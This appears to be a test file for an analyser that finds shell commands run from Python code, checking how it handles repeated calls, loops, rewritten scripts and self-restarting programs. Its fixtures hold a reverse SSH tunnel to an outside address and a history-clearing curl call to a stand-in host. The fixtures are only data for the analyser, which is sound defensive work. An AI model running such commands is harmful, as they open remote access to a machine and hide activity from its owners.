"""The same command line run again is read once, and what it does happens at each place."""

from __future__ import annotations

from tests.read.python.readings import lines_of, read

TUNNEL = "ssh -N -R 2222:localhost:22 ops@203.0.113.7"


def test_a_command_line_run_twice_is_one_unit_and_an_effect_at_each_place() -> None:
    """What it does the second time stands behind what came between."""
    reading = read(f"""
        import os
        os.system("{TUNNEL}")
        os.system("unset HISTFILE; curl https://x.example/a")
        os.system("{TUNNEL}")
    """)
    assert [unit.text for unit in reading.units].count(TUNNEL) == 1
    lines = [line for line in lines_of(reading) if line.startswith(("ssh", "curl"))]
    assert [line.split()[0] for line in lines] == ["ssh", "curl", "ssh"]
    spans = {effect.place.span.line for effect in reading.effects if effect.place.unit == 0}
    assert 5 in spans


def test_one_call_that_runs_often_happens_once() -> None:
    """A loop is no other place."""
    reading = read(f"""
        import os
        for _ in range(3):
            os.system("{TUNNEL}")
    """)
    assert lines_of(reading).count(TUNNEL) == 1


def test_a_command_line_is_read_again_where_the_file_it_looks_at_has_changed() -> None:
    """The second run finds what was written between."""
    reading = read(f"""
        import os
        os.system("sh /tmp/a.sh")
        open("/tmp/a.sh", "w").write("{TUNNEL}")
        os.system("sh /tmp/a.sh")
    """)
    assert TUNNEL in lines_of(reading)


def test_what_a_program_prints_may_be_something_else_the_second_time() -> None:
    """Two outputs that nobody knows decide nothing."""
    reading = read(f"""
        import os
        a = os.popen("vmstat 1 1").read()
        b = os.popen("vmstat 1 1").read()
        if a != b:
            os.system("{TUNNEL}")
    """)
    assert TUNNEL in lines_of(reading)


def test_a_script_that_restarts_itself_everywhere_is_read_once_more() -> None:
    """Each restart with arguments that nobody knows is the same restart, whatever the argument is called."""
    restarts = "\n".join(
        f"if x == {number}: os.execl(sys.executable, sys.executable, *sys.argv)" for number in range(9)
    )
    reading = read(f"import os, sys\nx = int(input())\n{restarts}\nos.system('{TUNNEL}')\n")
    assert sum(unit.language.value == "python" for unit in reading.units) <= 3
    assert TUNNEL in lines_of(reading)


def test_a_script_that_restarts_itself_with_another_argument_is_read_with_it() -> None:
    """What the argument decides is found."""
    reading = read(f"""
        import os, sys
        if "--go" in sys.argv[1:] and sys.argv[-1] == "now":
            os.system("{TUNNEL} -p " + str(len(sys.argv)))
        os.execl(sys.executable, "python3", __file__, "--go", "now")
    """)
    assert f"{TUNNEL} -p 3".replace("ops@203.0.113.7 -p 3", "-p 3 ops@203.0.113.7") in lines_of(reading)


def test_a_script_that_restarts_itself_among_ever_other_files_is_a_gap() -> None:
    """Restarts that are not read again are said."""
    restarts = "\n".join(
        f"open('s.sh', 'w').write('echo {number}')\n"
        f"if x == {number}: os.execl(sys.executable, sys.executable, __file__)"
        for number in range(6)
    )
    reading = read(f"import os, sys\nx = int(input())\nos.system('sh s.sh')\n{restarts}\n")
    assert sum(unit.language.value == "python" for unit in reading.units) <= 4
    assert any("starts itself again" in gap.what for gap in reading.gaps)


def test_a_script_that_counts_its_restarts_in_a_file_is_not_given_up_in_silence() -> None:
    """What it would do the third time is read or a gap."""
    reading = read(f"""
        import os, sys
        stage = open("stage").read()
        open("stage", "w").write(stage + "x")
        if len(stage) == 3 and stage.endswith("xxx"):
            os.system("{TUNNEL}")
        os.execl(sys.executable, sys.executable, __file__)
    """)
    assert TUNNEL in lines_of(reading) or any("starts itself again" in gap.what for gap in reading.gaps)
